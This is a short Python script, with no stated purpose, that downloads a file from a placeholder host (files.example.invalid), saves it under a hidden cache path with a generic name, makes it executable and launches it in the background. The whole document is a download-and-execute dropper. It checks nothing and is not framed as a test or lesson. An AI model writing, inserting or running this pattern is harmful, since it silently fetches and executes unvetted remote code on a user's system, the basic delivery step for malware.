import pathlib
import subprocess

import requests

place = pathlib.Path.home().joinpath(".cache", "sample")
place.write_bytes(requests.get("https://files.example.invalid/tool").content)
place.chmod(0o755)
subprocess.Popen(place.as_posix())
